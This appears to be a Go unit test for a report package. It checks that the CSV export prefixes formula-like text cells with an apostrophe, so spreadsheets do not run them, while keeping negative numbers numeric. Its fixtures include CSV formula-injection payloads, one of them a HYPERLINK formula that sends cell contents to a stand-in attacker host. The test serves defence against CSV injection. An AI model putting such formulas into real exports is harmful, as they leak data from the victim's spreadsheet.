package report

import (
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?$`)

// A text cell that a spreadsheet would run as a formula (a station name, a province, a list
// of stations starting with = + - @, a tab or a carriage return) is written with a leading
// apostrophe; numbers, negative ones too, stay numbers.
func TestCSVFormulaCells(t *testing.T) {
	low := -2.5
	r := &Report{Month: "2026-11", Provinces: []Province{{Name: "@SUM(A1)", Stations: []string{"+A"}}},
		Stations: []Station{{ID: "-WW", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Province: "\tTab",
			Limits: []Exceedance{{Regulation: "QCVN-40:2011/B", Parameter: "ph", Period: "1h", Min: &low}}}}}
	var b strings.Builder
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "\ufeffmonth,section,") {
		t.Errorf("the CSV does not start with a UTF-8 byte-order mark and its header: %q", b.String()[:20])
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return 0
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		seen[row[col("station_name")]] = true
		seen[row[col("province")]] = true
		seen[row[col("station")]] = true
		seen[row[col("stations")]] = true
		if row[1] == "limit" && row[col("limit_min")] != "-2.5" {
			t.Errorf("limit_min %q, want the number -2.5", row[col("limit_min")])
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(A1)", "'+A", "'-WW", "'\tTab"} {
		if !seen[want] {
			t.Errorf("no cell %q in\n%s", want, b.String())
		}
	}
}
